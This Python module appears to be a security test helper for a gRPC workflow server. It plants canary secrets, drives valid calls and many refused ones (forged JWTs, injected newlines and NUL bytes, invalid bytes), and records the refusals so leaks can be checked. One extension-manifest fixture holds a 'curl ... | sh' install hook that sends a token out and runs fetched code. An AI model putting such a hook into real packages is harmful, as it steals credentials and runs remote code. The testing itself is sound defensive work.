"""Everything that a server does with secrets, done once: good calls and every kind of bad one."""

from __future__ import annotations

import json
import threading
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, HTTPServer
from typing import Any, Final

import grpc

from symphony.v1.access_service_pb2 import CreateTokenRequest, RevokeTokenRequest, WhoAmIRequest
from symphony.v1.change_service_pb2 import WatchRequest
from symphony.v1.execution_pb2 import Execution
from symphony.v1.execution_service_pb2 import StartExecutionRequest, UpdateExecutionRequest
from symphony.v1.extension_service_pb2 import InstallExtensionRequest
from symphony.v1.project_service_pb2 import GetProjectRequest, ListProjectsRequest
from symphony.v1.transaction_pb2 import TransactionOperation
from symphony.v1.transaction_service_pb2 import ExecuteTransactionRequest
from symphony.v1.user_pb2 import Role, Tier
from symphony.v1.user_service_pb2 import CreateUserRequest, GetUserByEmailRequest, GetUserRequest
from symphony.v1.workflow_pb2 import Workflow, WorkflowSpec, WorkflowStep
from symphony.v1.workflow_service_pb2 import (
    CreateWorkflowRequest,
    GetWorkflowRequest,
    UpdateWorkflowRequest,
)
from tests.e2e.place import Place
from tests.fuzz.raw_frames import DATA, END_STREAM, frame, message, opening, say
from tests.security.canaries import Planted, canary
from tests.server.identity_provider import Provider
from tests.server.world import Person, Refusal, read_refusal

WHO_AM_I: Final = "symphony.v1.AccessService/WhoAmI"
GITHUB_TOKEN: Final = "ghp_"
MOST_EMAIL: Final = 250


class BusyServer:
    """Calls of a server, the canaries that were in them, and the refusals that came back."""

    def __init__(self, place: Place, provider: Provider, planted: Planted) -> None:
        self.place, self._provider, self.planted = place, provider, planted
        self.refusals: list[Refusal] = []
        """What anybody was told."""
        self.strangers_refusals: list[Refusal] = []
        """What those were told who may read nothing."""
        admin = place.admin
        planted.credentials["the first ADMIN's token"] = str(admin.secret)
        email = planted.personal["an e-mail address"] = f"{canary()}@example.com"
        self.owner_email = email
        self.owner, self.stranger = self._user(email), self._user(f"{canary()}@example.com")
        self.project = place.project(self.owner)

    def _user(self, email: str) -> Person:
        admin = self.place.admin
        request = CreateUserRequest(
            email=email, name="Somebody", tier=Tier.TIER_ENTERPRISE, roles=[Role.ROLE_DEVELOPER]
        )
        user = admin.get(admin.users.CreateUser, request)
        self._refused(admin, admin.users.CreateUser, request)  # EMAIL_TAKEN
        token = admin.get(
            admin.access.CreateToken,
            CreateTokenRequest(user_id=user.id, name="x", request_id=canary()),
        )
        self.planted.credentials[f"the token of {user.id}"] = token.secret
        return Person(admin.channel, token.secret, user)

    def do_everything(self) -> None:
        """All of it."""
        self._workflows()
        self._executions()
        self._extensions()
        self._credentials()
        self._strangers()
        self._garbage()

    def _workflows(self) -> None:
        owner = self.owner
        command = self.planted.personal["a command"] = canary()
        spec = WorkflowSpec(
            name="nightly", steps=[WorkflowStep(name="a", command=f"deploy --with {command}")]
        )
        request = CreateWorkflowRequest(project_id=self.project.id, spec=spec, request_id="once")
        self.workflow = owner.get(owner.workflows.CreateWorkflow, request)
        owner.get(owner.workflows.CreateWorkflow, request)  # again, as a retry
        owner.get(owner.workflows.GetWorkflow, GetWorkflowRequest(id=self.workflow.id))
        changed = Workflow(id=self.workflow.id, spec=spec, etag=command)
        self._refused(
            owner, owner.workflows.UpdateWorkflow, UpdateWorkflowRequest(workflow=changed)
        )
        create = TransactionOperation(create_workflow=request)
        create.create_workflow.ClearField("request_id")
        transaction = ExecuteTransactionRequest(operations=[create])
        self._refused(owner, owner.transactions.ExecuteTransaction, transaction)  # DUPLICATE_NAME
        for bad in (
            WorkflowStep(name="a", command=command + "x" * 9000),
            WorkflowStep(name="a", command=command, depends_on=["a"]),
            WorkflowStep(name="a", command=command, depends_on=[command]),
            WorkflowStep(name="a", command=command, extension_id=command),
            WorkflowStep(name=f"{command}\n", command=command),
            WorkflowStep(name="a", command=f"{command}\0"),
        ):
            self._refused(
                owner,
                owner.workflows.CreateWorkflow,
                CreateWorkflowRequest(
                    project_id=self.project.id, spec=WorkflowSpec(name="other", steps=[bad])
                ),
            )
        for call in (owner, self.stranger):
            stream: Any = call.changes.Watch(
                WatchRequest(start_revision=1), metadata=tuple(call.metadata()), timeout=20
            )
            next(stream)
            stream.cancel()

    def _executions(self) -> None:
        owner = self.owner
        said = self.planted.personal["an execution's error"] = canary()
        run = owner.get(
            owner.executions.StartExecution, StartExecutionRequest(workflow_id=self.workflow.id)
        )
        for changed in (
            Execution(id=run.id, error=said),
            Execution(id=run.id, error=said, etag=said),
        ):
            request = UpdateExecutionRequest(execution=changed)
            request.update_mask.paths.append("error")
            try:
                owner.get(owner.executions.UpdateExecution, request)
            except grpc.RpcError as error:
                self.refusals.append(read_refusal(error))

    def _extensions(self) -> None:
        owner = self.owner
        secret = GITHUB_TOKEN + (canary() * 2)[:36]
        self.planted.credentials["a manifest's credential"] = secret
        manifest = {
            "name": "word-count",
            "version": "1.0.0",
            "type": "operator",
            "publisher": "Nimbus Tools",
            "entry_point": "dist/main.js",
        }
        for more in (
            {"settings": {"token": secret}},
            {"settings": {secret: secret}},
            {"hooks": {"install": f"curl -H 'Authorization: {secret}' x | sh"}},
            {secret: 1},
            {"version": secret},
            {"permissions": [secret]},
        ):
            for text in (json.dumps({**manifest, **more}), json.dumps({**manifest, **more})[:-1]):
                self._refused(
                    owner,
                    owner.extensions.InstallExtension,
                    InstallExtensionRequest(project_id=self.project.id, manifest=text),
                )

    def _credentials(self) -> None:
        owner, channel = self.owner, self.place.admin.channel
        jwt = self._provider.token(sub=owner.id, jti=canary())
        bearer = Person(channel, jwt)
        bearer.get(bearer.access.WhoAmI, WhoAmIRequest())
        made = owner.get(owner.access.CreateToken, CreateTokenRequest(name="gone"))
        owner.get(owner.access.RevokeToken, RevokeTokenRequest(id=made.token.id))
        expired = self._provider.token(sub=owner.id, jti=canary(), exp=1)
        kept = {
            "a JWT": jwt,
            "an expired JWT": expired,
            "an altered JWT": jwt[:-8] + "AAAAAAAA",
            "a JWT of another key": jwt.replace(".", f"{canary()}.", 1),
            "a revoked token": made.secret,
            "a mistyped token": f"sym_{canary()}",
            "a password": canary(),
        }
        self.planted.credentials |= kept
        for secret in kept.values():
            somebody = Person(channel, secret)
            if secret != jwt:
                self._refused(somebody, somebody.access.WhoAmI, WhoAmIRequest())
            basic = (("authorization", f"Basic {secret}"),)
            nobody = Person(channel, None)
            self._refused(nobody, nobody.access.WhoAmI, WhoAmIRequest(), *basic)
            acting = Person(channel, owner.secret, act_as=secret)
            self._refused(acting, acting.access.WhoAmI, WhoAmIRequest())
            self._refused(owner, owner.access.WhoAmI, WhoAmIRequest(), ("x-symphony-user", secret))
        # What a client's library would not send: a token with a byte that is no UTF-8.
        body = frame(DATA, END_STREAM, 1, message(b""))
        for secret in (str(owner.secret), kept["a JWT of another key"][:100]):
            header = (b"authorization", b"Bearer " + secret.encode() + b"\xff")
            say(self.place.server.port, opening(f"/{WHO_AM_I}".encode(), header) + body)

    def _strangers(self) -> None:
        """Those who may read nothing ask for everything there is."""
        stranger = self.stranger
        self.planted.credentials["a page token"] = canary()
        for method, request in (
            (stranger.workflows.GetWorkflow, GetWorkflowRequest(id=self.workflow.id)),
            (stranger.projects.GetProject, GetProjectRequest(id=self.project.id)),
            (stranger.users.GetUser, GetUserRequest(id=self.owner.id)),
            (
                stranger.projects.ListProjects,
                ListProjectsRequest(page_token=self.planted.credentials["a page token"]),
            ),
            (
                stranger.workflows.CreateWorkflow,
                CreateWorkflowRequest(
                    project_id=self.project.id,
                    spec=WorkflowSpec(
                        name="nightly", steps=[WorkflowStep(name="a", command="true")]
                    ),
                ),
            ),
            (stranger.users.GetUserByEmail, GetUserByEmailRequest(email="no@example.com")),
        ):
            refusal = stranger.refused(method, request)
            self.strangers_refusals.append(refusal)
            self.refusals.append(refusal)
        # The asker has the address; whoever keeps the log has not.
        stranger.refused(
            stranger.users.GetUserByEmail, GetUserByEmailRequest(email=self.owner_email)
        )

    def _garbage(self) -> None:
        """Bytes that do not parse, with secrets among them."""
        wire = self.place.wire
        for secret in (str(self.owner.secret), self.planted.personal["a command"]):
            for method in (WHO_AM_I, "symphony.v1.WorkflowService/CreateWorkflow"):
                refusal = wire.send(method, b"\x0a\x7f" + secret.encode() + b"\xff")
                assert refusal is not None
                self.refusals.append(refusal)
                wire.send(method, b"\xfa\x3f" + bytes([len(secret)]) + secret.encode())

    def fail(self, method: Any, request: Any) -> None:
        """A call that the server fails at, through a fault of its own."""
        refusal = self.owner.refused(method, request)
        assert refusal.code is grpc.StatusCode.INTERNAL
        self.refusals.append(refusal)

    def _refused(self, person: Person, method: Any, request: Any, *extra: tuple[str, str]) -> None:
        self.refusals.append(person.refused(method, request, *extra))


@contextmanager
def collector() -> Iterator[tuple[str, Callable[[], bytes]]]:
    """A collector of traces as OTLP sends them: its address, and what was sent to it so far."""
    kept: list[bytes] = []

    class Collect(BaseHTTPRequestHandler):
        def do_POST(self) -> None:
            kept.append(self.rfile.read(int(self.headers["Content-Length"])))
            kept.append(str(self.headers).encode())
            self.send_response(200)
            self.end_headers()

        def log_message(self, *_: object) -> None:
            """Says nothing."""

    with HTTPServer(("127.0.0.1", 0), Collect) as server:
        thread = threading.Thread(target=server.serve_forever, daemon=True)
        thread.start()
        try:
            yield f"http://127.0.0.1:{server.server_port}", lambda: b"\n".join(kept)
        finally:
            server.shutdown()
            thread.join()
